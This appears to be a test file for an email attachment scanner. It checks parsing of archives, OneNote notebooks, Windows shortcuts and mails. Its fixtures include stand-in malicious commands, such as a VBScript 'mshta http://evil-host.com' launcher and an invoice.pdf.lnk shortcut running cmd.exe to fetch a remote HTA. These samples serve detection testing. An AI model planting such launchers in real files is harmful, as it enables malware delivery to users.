import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import { afterAll, describe, expect, test } from 'vitest';
import { formatsOf } from '#core/inspect/formats/index.ts';
import { inspectAttachments } from '#core/inspect/inspect.ts';
import { mimeTypeOf } from '#core/inspect/mime-type.ts';
import { readShortcut } from '#core/inspect/windows/shortcut.ts';
import { parseMail } from '#core/parse/parse-mail.ts';
import { processorTime } from '../../processor-time.ts';
import { aCompoundFile } from './writers/compound-file.ts';
import { anAllowance, damaged, inspectFile } from './writers/inspect-file.ts';
import { aStoredZip } from './writers/stored-zip.ts';

const folder = mkdtempSync(join(tmpdir(), 'archives-'));
const LONG = `${'deep/'.repeat(30)}letter.txt`;
mkdirSync(join(folder, 'deep/'.repeat(30)), { recursive: true });
writeFileSync(join(folder, LONG), 'see http://evil-host.com/a');
writeFileSync(join(folder, 'b.bin'), 'MZ program');
afterAll(() => rmSync(folder, { recursive: true }));

describe('a tar', () => {
  test.each(['gnu', 'pax', 'ustar'])('of the kind %s has its files as members, also those of long names', async (format) => {
    const bytes = execFileSync('tar', [`--format=${format}`, '-C', folder, '-cf', '-', LONG, 'b.bin']);
    const { members } = await inspectFile(bytes, 'a.tar');
    expect(members.map(({ filename, size }) => [filename, size])).toEqual([
      [LONG, 26],
      ['b.bin', 10],
    ]);
    expect(members[0]?.texts).toEqual(['see http://evil-host.com/a']);
  });

  test('in a gzip is opened as well', async () => {
    const bytes = execFileSync('tar', ['-C', folder, '-czf', '-', 'b.bin']);
    const { members } = await inspectFile(bytes, 'a.tar.gz');
    expect(members).toMatchObject([{ filename: 'a.tar', members: [{ part: '2/1/1', filename: 'b.bin', size: 10 }] }]);
  });

  test('whose sizes lead back to what was read is read on behind them', async () => {
    const bytes = execFileSync('tar', ['-C', folder, '-cf', '-', 'b.bin', LONG]);
    bytes.write('-0000001000\0', 124, 'latin1');
    const { members, notices } = await inspectFile(bytes, 'a.tar');
    expect(members.at(-1)).toMatchObject({ filename: LONG, size: 26 });
    expect(notices).toEqual([]);
  });

  test.each([
    ['whose own name is empty behind a record with another one', (entry: Buffer) => entry.fill(0, 0, 100)],
    ['of a kind that nobody knows', (entry: Buffer) => entry.write('Z', 156)],
    ['whose own size is none behind a record with another one', (entry: Buffer) => entry.fill('0', 124, 135)],
  ])('has a file %s, and the one behind it', async (_, change) => {
    const bytes = execFileSync('tar', ['-C', folder, '--format=ustar', '-cf', '-', 'b.bin', LONG]);
    const entry = bytes.subarray(0, 512);
    const records = Buffer.from('17 path=real.exe\n11 size=10\n');
    const head = Buffer.from(entry);
    head.write('x', 156);
    head.write(records.length.toString(8).padStart(11, '0'), 124);
    change(entry);
    const { members } = await inspectFile(Buffer.concat([head, records, Buffer.alloc(512 - records.length), bytes]), 'a.tar');
    expect(members.map(({ filename, size }) => [filename, size])).toEqual([
      ['real.exe', 10],
      [LONG, 26],
    ]);
  });

  test('of very many files is read in part, and says so', async () => {
    const bytes = execFileSync('tar', ['-C', folder, '-cf', '-', ...Array.from({ length: 30 }, () => 'b.bin'), '--hard-dereference']);
    const content = await inspectFile(bytes, 'a.tar', { maxMembers: 10 });
    expect(content.notices).toMatchObject([{ code: 'archive_too_many_files' }]);
  });
});

describe('a gzip', () => {
  test('has what it holds as a member, by the name that it has inside', async () => {
    const bytes = execFileSync('gzip', ['-c', join(folder, 'b.bin')]);
    expect((await inspectFile(bytes, 'x.gz')).members).toMatchObject([{ filename: 'b.bin', size: 10 }]);
    expect((await inspectFile(gzipSync('hello'), 'x.svg.gz')).members).toMatchObject([{ filename: 'x.svg', size: 5 }]);
  });

  test.each([
    ['something else', 'junk', 'hello'],
    ['zeros', '\0'.repeat(1000), 'hello'],
    ['another one', gzipSync(' you'), 'hello you'],
    ['one behind an empty one', Buffer.concat([gzipSync(''), gzipSync(' you')]), 'hello you'],
    ['many', Buffer.concat(Array.from({ length: 15 }, () => gzipSync('o'))), `hello${'o'.repeat(15)}`],
  ])('with %s behind it has what other programs find in it', async (_, behind, text) => {
    const { members, notices } = await inspectFile(Buffer.concat([gzipSync('hello'), Buffer.from(behind)]), 'a.txt.gz');
    expect(members).toMatchObject([{ filename: 'a.txt', texts: [text] }]);
    expect(notices).toEqual([]);
  });

  test.each([
    ['damaged', gzipSync(' you').subarray(0, 12)],
    ['in too many pieces', Buffer.concat(Array.from({ length: 2000 }, () => gzipSync('')))],
  ])('that is %s behind its start is told of as unpacked in part', async (_, behind) => {
    const { members, notices } = await inspectFile(Buffer.concat([gzipSync('hello'), behind]), 'a.txt.gz');
    expect(members).toMatchObject([{ texts: ['hello'] }]);
    expect(notices).toMatchObject([{ code: 'member_unreadable' }]);
  });

  test('that is a bomb or damaged is a notice', async () => {
    const bomb = await inspectFile(gzipSync(Buffer.alloc(60_000_000)), 'a.gz');
    expect(bomb).toMatchObject({ members: [], notices: [{ code: 'file_unreadable' }] });
    expect(await inspectFile(gzipSync('hello').subarray(0, 12), 'a.gz')).toMatchObject({
      members: [],
      notices: [{ code: 'file_unreadable' }],
    });
  });
});

// As Windows of each country writes them: without a mark, in its own code page.
test.each<[string, string, readonly string[]]>([
  ['Japan', '90bf8b818f915f32303234944e2e657865', ['請求書_2024年.exe']],
  ['Japan, half of whose bytes are letters of ASCII', '834a835e838d834f2e6c6e6b', ['カタログ.lnk']],
  ['China', 'b7a2c6b1d0c5cfa22e657865', ['发票信息.exe']],
  ['Korea', 'b0dfc0fbbcad2e657865', ['견적서.exe']],
  ['Russia', 'e1e7f1e220ada020aeafaba0e2e32e657865', ['счёт на оплату.exe']],
  ['Germany', '9a62657277656973756e6720668172204d84727a2e657865', ['Überweisung für März.exe']],
  ['France', '528273756d822e646f63', ['Résumé.doc']],
])('the name of a file in a zip from %s is read', async (_country, name, expected) => {
  const bytes = aStoredZip(Buffer.from(name, 'hex').toString('latin1'), 'MZ and more');
  expect((await inspectFile(new Uint8Array(bytes), 'a.zip')).members.map(({ filename }) => filename)).toEqual(expected);
});

test.each<[string, string, string]>([
  ['Zstandard', '28b52ffd0400', 'a.zst'],
  ['bzip2', '425a6839', 'a.bz2'],
  ['LZH', '24002d6c68352d', 'a.lzh'],
  ['compress (.Z)', '1f9d90', 'a.Z'],
  ['lzip', '4c5a4950010c', 'a.lz'],
  ['ALZ', '414c5a010a000000', 'a.alz'],
  ['EGG', '4547474100010000', 'a.egg'],
  ['disk image (WIM)', '4d5357494d000000', 'a.wim'],
  ['disk image (VHD)', '636f6e6563746978', 'a.vhd'],
  ['disk image (VHDX)', '7668647866696c65', 'a.vhdx'],
  ['ACE', '000000000000002a2a4143452a2a', 'a.ace'],
])('a file of the format %s is told of as one that is not looked into', async (format, hex, name) => {
  const { notices } = await inspectFile(Buffer.from(hex, 'hex'), name);
  expect(notices).toMatchObject([{ code: 'file_unopened', details: { file: name, format } }]);
});

describe('a notebook of OneNote', () => {
  test('has the files that were put into it as members', async () => {
    const script = Buffer.from('CreateObject("WScript.Shell").Run "mshta http://evil-host.com"');
    const object = Buffer.concat([
      Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
      u32(script.length),
      Buffer.alloc(16),
      script,
      Buffer.alloc(16),
    ]);
    const content = await inspectFile(
      Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(1000), object]),
      'a.one',
    );
    expect(content.members).toMatchObject([{ filename: 'object 1', size: script.length, texts: [script.toString()] }]);
  });
});

test.each([
  [
    'notebook',
    'a.one',
    Buffer.from(`e4525c7b8cd8a74daeb15378d02996d3${`e716e3bd65261145a4c48d4d0b7a9eac02${'00'.repeat(19)}4d5a`.repeat(20)}`, 'hex'),
  ],
  ['RTF', 'a.rtf', Buffer.from(`{\\rtf1 ${'{\\object{\\*\\objdata d0cf11e0a1b11ae1}}'.repeat(20)}}`)],
  ['document', 'a.doc', aCompoundFile(Object.fromEntries(Array.from({ length: 20 }, (_, n) => [`${n}/Package`, 'MZ'])))],
  ['PDF', 'a.pdf', Buffer.from(`%PDF-1.7\n${'1 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj\n'.repeat(20)}`)],
])('a %s of very many files is read in part, and says so', async (_, name, bytes) => {
  const { members, notices } = await inspectFile(bytes, name, { maxMembers: 10 });
  expect(members).toHaveLength(10);
  expect(notices.filter(({ code }) => code === 'archive_too_many_files')).toHaveLength(1);
  const all = await inspectFile(bytes, name, { maxMembers: 20 });
  expect(all.members).toHaveLength(20);
  expect(all.notices.map(({ code }) => code)).not.toContain('archive_too_many_files');
});

describe('a shortcut of Windows', () => {
  const shortcut = aShortcut({
    target: 'C:\\Windows\\System32\\cmd.exe',
    words: 'invoice',
    args: '/c mshta http://evil-host.com/a.hta',
    icon: '%windir%\\x.dll',
  });

  test('is told of with what it starts and how', async () => {
    const content = await inspectFile(shortcut, 'invoice.pdf.lnk');
    expect(content.texts[0]).toBe(
      'C:\\Windows\\System32\\cmd.exe\ninvoice\n/c mshta http://evil-host.com/a.hta\n%windir%\\x.dll\n%ComSpec%',
    );
    expect(content.notices).toMatchObject([{ code: 'file_harmful', details: { names: expect.stringContaining('cmd.exe') } }]);
  });

  test('to a program of the office is like any other', async () => {
    expect(
      (await inspectFile(aShortcut({ target: 'C:\\Program Files\\Writer\\write.exe', words: '', args: '', icon: '' }), 'a.lnk')).notices,
    ).toEqual([]);
  });

  test('cut off or with wrong bytes anywhere does not make it throw', () => {
    for (const bytes of damaged(shortcut, 500)) {
      readShortcut(bytes);
    }
  });
});

describe('mails in an archive', () => {
  test('give their subject, words, links and attachments', async () => {
    const mail = Buffer.from(
      'Subject: Bill\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nSee http://evil-host.com/a\r\n--b\r\nContent-Type: application/octet-stream; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\nTVogcHJvZ3JhbQ==\r\n--b--\r\n',
    );
    const [content] = (await inspectFile(await aZip('bill.eml', mail), 'a.zip')).members;
    expect(content?.texts).toEqual(['Bill', expect.stringContaining('http://evil-host.com/a')]);
    expect(content?.members).toMatchObject([{ part: '2/1/1', filename: 'a.exe', size: 10 }]);
  });

  test('are read as far as others, and say what was left out of them', async () => {
    const part = '--b\r\nContent-Disposition: attachment; filename=a.exe\r\n\r\nMZ\r\n';
    const mail = Buffer.from(`Content-Type: multipart/mixed; boundary=b\r\n\r\n${part.repeat(20)}--b--\r\n`);
    const [content] = (await inspectFile(await aZip('a.eml', mail), 'a.zip', { maxMembers: 10 })).members;
    expect(content?.members).toHaveLength(9);
    expect(content?.notices).toMatchObject([{ code: 'archive_too_many_files' }]);
    const sealed = Buffer.from('Content-Type: multipart/encrypted; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--\r\n');
    const [closed] = (await inspectFile(await aZip('a.eml', sealed), 'a.zip')).members;
    expect(closed?.notices).toMatchObject([{ code: 'encrypted' }]);
  });

  test('of Outlook are read like others', async () => {
    const message = readFileSync('test/fixtures/mails/outlook-message.msg');
    const expected = parseMail(message);
    const [content] = (await inspectFile(await aZip('a.msg', message), 'a.zip')).members;
    expect(content?.texts).toContain(expected.subject);
    const { contents } = await inspectAttachments(expected);
    expect(content?.members.map(({ filename, size }) => [filename, size])).toEqual(contents.map(({ filename, size }) => [filename, size]));
    expect(contents.length).toBeGreaterThan(0);
  });

  test('in the form of Outlook’s winmail.dat give what is in it, and not it once more', async () => {
    const whole = parseMail(readFileSync('test/fixtures/mails/container-winmail.dat.eml'));
    const winmail = whole.parts.find(({ bytes }) => mimeTypeOf(bytes) === 'application/vnd.ms-tnef');
    const attached = (await inspectAttachments(whole)).contents.filter(({ mimeType }) => mimeType !== 'application/vnd.ms-tnef');
    const [content] = (await inspectFile(await aZip('winmail.dat', winmail?.bytes ?? new Uint8Array(0)), 'a.zip')).members;
    expect(content?.members.map(({ filename, size }) => [filename, size])).toEqual(attached.map(({ filename, size }) => [filename, size]));
    expect(attached.length).toBeGreaterThan(1);
  });
});

test('hostile archives, notebooks and mails neither throw nor take long', async () => {
  const files: readonly (readonly [string, Uint8Array])[] = [
    ['application/x-tar', execFileSync('tar', ['-C', folder, '-cf', '-', LONG, 'b.bin'])],
    ['application/onenote', Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac'.repeat(2000), 'hex')],
    [
      'application/vnd.ms-tnef',
      parseMail(readFileSync('test/fixtures/mails/container-winmail.dat.eml')).parts.at(-1)?.bytes ?? new Uint8Array(0),
    ],
  ];
  const started = processorTime();
  for (const [mimeType, whole] of files) {
    for (const bytes of damaged(whole, 60)) {
      const file = { bytes, mimeType, filename: 'a', passwords: [], isInside: true } as const;
      await formatsOf(file)[0]?.open(file, anAllowance());
    }
  }
  expect(processorTime() - started).toBeLessThan(5000);
});

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
}

async function aZip(name: string, bytes: Uint8Array): Promise<Uint8Array> {
  const writer = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false });
  await writer.add(name, new Uint8ArrayReader(bytes));
  return writer.close();
}

function aShortcut(said: { readonly target: string; readonly words: string; readonly args: string; readonly icon: string }): Uint8Array {
  const head = Buffer.alloc(76);
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(head);
  head.writeUInt32LE(1 | 2 | 4 | 32 | 64 | 128, 20);
  const target = Buffer.from(`${said.target}\0`);
  const info = Buffer.concat([
    u32(28 + target.length + 1),
    u32(28),
    u32(1),
    u32(0),
    u32(28),
    u32(0),
    u32(28 + target.length),
    target,
    Buffer.alloc(1),
  ]);
  const word = (text: string) => Buffer.concat([Buffer.from([text.length, 0]), Buffer.from(text, 'utf16le')]);
  const environment = Buffer.alloc(788);
  environment.writeUInt32LE(788, 0);
  environment.writeUInt32LE(0xa0000001, 4);
  environment.write('%ComSpec%', 268, 'utf16le');
  return Buffer.concat([head, Buffer.from([2, 0, 0, 0]), info, word(said.words), word(said.args), word(said.icon), environment, u32(0)]);
}
